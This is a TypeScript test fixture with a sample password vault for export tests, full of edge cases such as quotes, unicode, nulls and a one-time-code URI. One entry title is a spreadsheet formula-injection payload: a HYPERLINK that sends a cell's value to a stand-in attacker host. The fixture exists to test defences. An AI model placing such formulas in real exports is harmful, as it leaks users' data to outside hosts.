// One vault for every export test: multi-line notes, quotes and commas, unicode (composed,
// emoji, right-to-left), empty and null fields, a group no entry is in, formula-looking cells, and
// an entry with a one-time code and a password history.
import type { ExportedVault } from '../../../../src/features/import/export/exportedVault';

export const fixtureVault: ExportedVault = {
  groups: [
    { name: 'Work, "Main"', description: 'Everything for the office' },
    { name: 'Família 🏠', description: null },
    { name: 'Empty group', description: 'No entry is in it' },
  ],
  entries: [
    {
      title: 'Mail',
      url: 'https://mail.example.com/login?x=1&y=2',
      username: 'ana@example.com',
      password: 'p,a"s;s\'w0rd',
      notes: 'Line one\nLine two, with a comma\r\n"Quoted" line three',
      group: 'Work, "Main"',
      // Issue #23: a one-time code and a password history.
      otp: 'otpauth://totp/Mail:ana%40example.com?issuer=Mail&secret=JBSWY3DPEHPK3PXP&algorithm=SHA1&digits=6&period=30',
      passwordHistory: [
        { password: 'older "one"', replacedAt: 1_700_000_000_000 },
        { password: 'oldest', replacedAt: 1_600_000_000_000 },
      ],
    },
    { title: 'Bank – Zoë', url: null, username: 'zoë', password: 'ünïcödé-🔑-密码', notes: null, group: 'Família 🏠' },
    { title: 'No group, no url', url: null, username: '', password: '', notes: '', group: null },
    { title: '=HYPERLINK("http://evil.example/?"&A1,"click")', url: 'https://a.example', username: '+33 6 12 34 56 78', password: '-dash-first', notes: '@SUM(1+1)\nsecond line', group: 'Work, "Main"' },
    { title: 'Tab\tand CR', url: '\thttps://t.example', username: '\rcr', password: 'שלום עולם', notes: '  spaced  ', group: 'Família 🏠' },
  ],
};
